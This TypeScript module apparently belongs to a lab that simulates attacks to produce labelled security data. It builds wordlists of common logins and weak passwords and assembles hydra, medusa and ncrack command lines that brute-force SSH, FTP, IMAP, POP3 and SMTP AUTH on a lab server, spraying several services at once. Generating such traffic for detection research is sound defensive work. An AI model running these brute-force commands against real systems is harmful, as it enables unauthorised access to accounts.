/**
 * Credential-access steps: hydra or medusa brute force against sshd, then at once against FTP
 * (with ncrack), IMAP, POP3 and SMTP AUTH, with short wordlists, few tasks and a hard timeout.
 *
 * @module
 */
import { act } from "./actor.ts";
import type { AttackCtx, Step } from "./attacks.ts";

const PASSWORDS = [
  "123456",
  "password",
  "letmein",
  "qwerty",
  "admin",
  "changeme",
  "12345678",
  "iloveyou",
  "football",
  "baseball",
  "master",
  "shadow",
  "trustno1",
  "abc123",
];
const LOGINS = [
  "root",
  "admin",
  "test",
  "oracle",
  "ubuntu",
  "guest",
  "postgres",
  "git",
  "user",
  "info",
  "support",
  "backup",
  "ftpuser",
  "webmaster",
  "mail",
  "deploy",
];

/**
 * Writes the attacker's user and password lists for one service (`name`): a sample of common
 * logins and the lab's real account names, the victim and its weak password included.
 */
export async function wordlists(
  c: AttackCtx,
  name: string,
): Promise<{ users: string; passwords: string }> {
  const r = c.plan.rng;
  const pw = [...PASSWORDS].sort(() => r.next() - 0.5).slice(0, 9);
  pw.splice(r.int(4, pw.length), 0, c.plan.victim.password);
  const logins = [...LOGINS].sort(() => r.next() - 0.5).slice(0, r.int(4, 7));
  const real = c.plan.accounts.slice(0, -1).map((a) => a.name).filter(() => r.chance(0.5));
  const users = `${c.dir}/users-${name}.txt`, passwords = `${c.dir}/passwords-${name}.txt`;
  await Deno.writeTextFile(users, [...logins, ...real, c.plan.victim.name].join("\n") + "\n");
  await Deno.writeTextFile(passwords, pw.join("\n") + "\n");
  return { users, passwords };
}

type Service = "ssh" | "ftp" | "imap" | "pop3" | "smtp";
type Tool = "hydra" | "medusa" | "ncrack";

/** The tool's command line for one bounded brute force of `service` on `port`. */
function bruteArgv(
  tool: Tool,
  service: Service,
  target: string,
  port: number,
  lists: { users: string; passwords: string },
  tasks: string,
  boundS: number,
  home: string,
): string[] {
  switch (tool) {
    case "medusa":
      return [
        "medusa",
        ...["-h", target, "-n", String(port), "-M", service, "-U", lists.users],
        ...["-P", lists.passwords, "-t", tasks, "-T", "1"],
      ];
    case "ncrack":
      // Interrupted by its timeout, ncrack saves a restore file (under root's home unless told
      // where, whatever $HOME says): keep it in the run's attacker directory.
      return [
        "ncrack",
        "--save",
        `${home}/ncrack.restore`,
        ...["-U", lists.users, "-P", lists.passwords, "-g", `CL=${tasks},to=${boundS}s`],
        `${service}://${target}:${port}`,
      ];
    case "hydra":
      return [
        "hydra",
        ...["-L", lists.users, "-P", lists.passwords, "-t", tasks, "-w", "5", "-W", "1", "-I"],
        ...["-s", String(port), `${service}://${target}`],
      ];
  }
}

/** One brute force, bounded by the step's time (each tool also stops when its lists end). */
async function brute(c: AttackCtx, service: Service, port: number, tool?: Tool): Promise<void> {
  const t = c.target(c.plan.srvIp), lists = await wordlists(c, `${service}${port}`);
  const tasks = String(c.plan.scenario.tools.bruteTasks);
  // hydra does SMTP AUTH in every scenario (medusa's smtp module is untested here).
  const use = tool ?? (service === "smtp" ? "hydra" : c.plan.scenario.tools.bruteTool);
  const bound = Math.max(5, Math.min(c.left(), 90));
  await act(c.atk, bruteArgv(use, service, t, port, lists, tasks, bound, c.dir), bound);
}

/** The credential-access steps. */
export const CRED_STEPS: Step[] = [
  {
    name: "ssh_brute",
    label: "credential_access",
    families: [],
    targets: ["sshd"],
    maxS: 90,
    weight: 2,
    run: (c) => brute(c, "ssh", 22),
  },
  {
    name: "service_brute",
    label: "credential_access",
    families: [],
    targets: ["vsftpd", "dovecot", "postfix"],
    maxS: 90,
    weight: 2,
    // The services at once, as a real campaign sprays them: FTP (with ncrack), IMAP, POP3 and
    // SMTP AUTH.
    run: (c) => {
      const d = c.plan.scenario.daemons, runs: Promise<void>[] = [];
      if (d.includes("vsftpd")) runs.push(brute(c, "ftp", 21, "ncrack"));
      if (d.includes("dovecot")) runs.push(brute(c, "imap", 143), brute(c, "pop3", 110));
      if (d.includes("postfix") && d.includes("dovecot")) runs.push(brute(c, "smtp", 25));
      return Promise.all(runs);
    },
  },
];
